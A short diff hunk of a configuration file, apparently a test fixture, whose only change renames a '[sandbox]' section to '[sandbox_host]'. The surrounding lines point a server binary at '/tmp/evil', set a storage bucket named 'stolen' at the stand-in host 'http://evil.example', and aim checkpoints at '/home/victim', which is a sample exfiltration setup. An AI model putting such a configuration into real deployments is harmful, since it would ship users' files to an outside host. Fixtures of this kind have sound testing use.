@@ -24,7 +24,7 @@ server_path = "/tmp/evil/nats-server"
 kind = "s3"
 bucket = "stolen"
 endpoint = "http://evil.example"
-[sandbox]
+[sandbox_host]
 checkpoints = "/home/victim"
 [policy]
 hidden_size = 32
